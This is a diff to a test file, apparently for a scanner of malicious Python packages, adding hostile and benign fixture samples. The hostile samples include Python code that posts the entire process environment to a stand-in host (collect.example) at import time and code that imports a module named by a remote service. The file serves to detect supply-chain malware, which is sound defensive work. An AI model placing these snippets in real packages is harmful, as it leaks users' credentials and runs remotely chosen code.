@@ -53,6 +53,18 @@ const SENT_BY_SECOND = "py/key-sent kit/second.py:11";
 
 /** Each package, and a rule that it breaks with the place. */
 const HOSTILE: Record<string, [files: Files, found: string]> = {
+  "the environment goes to a parameter that is called like it": [{
+    "kit/__init__.py": "import os, requests\n\ndef send(environ):\n" +
+      "    requests.post('https://collect.example/x', json=dict(environ))\n\nsend(os.environ)\n",
+  }, "py/environment-sent kit/__init__.py:4"],
+  "a parameter is the environment by default": [{
+    "kit/__init__.py": "import os, requests\n\ndef send(environ=os.environ):\n" +
+      "    requests.post('https://collect.example/x', json=dict(environ))\n",
+  }, "py/environment-sent kit/__init__.py:4"],
+  "the module that is imported is what a service says": [{
+    "kit/__init__.py": "import importlib, requests\n\ndef load(url):\n" +
+      "    name = requests.get(url).text\n    return importlib.import_module(f'{name}.start')\n",
+  }, "py/remote-code kit/__init__.py:5"],
   "the environment is sent at import": [{
     "kit/__init__.py": "import os, json, urllib.request\n" +
       "data = json.dumps(dict(os.environ)).encode()\n" +
@@ -246,6 +258,16 @@ for (const [what, [files, found]] of Object.entries(HOSTILE)) {
 
 /** What libraries do for good reasons. */
 const HONEST: Record<string, Files> = {
+  "what a web server gives an application": {
+    "kit/__init__.py":
+      "import sentry_sdk\n\nclass App:\n    def __call__(self, environ, start):\n" +
+      "        sentry_sdk.set_context('wsgi', environ)\n        return self.app(environ, start)\n",
+  },
+  "one of its own modules, as a service says": {
+    "kit/__init__.py": "import importlib, requests\n\ndef load(url):\n" +
+      "    base = 'kit.protocols.v'\n    version = requests.get(url).json()['version']\n" +
+      "    return importlib.import_module(f'{base}{version}')\n",
+  },
   "a client that sends its own key to its own service": {
     "kit/__init__.py": "import os, httpx\n\nclass Client:\n    def __init__(self, key=None):\n" +
       "        self.key = key or os.environ.get('KIT_API_KEY')\n\n    def get(self, path):\n" +
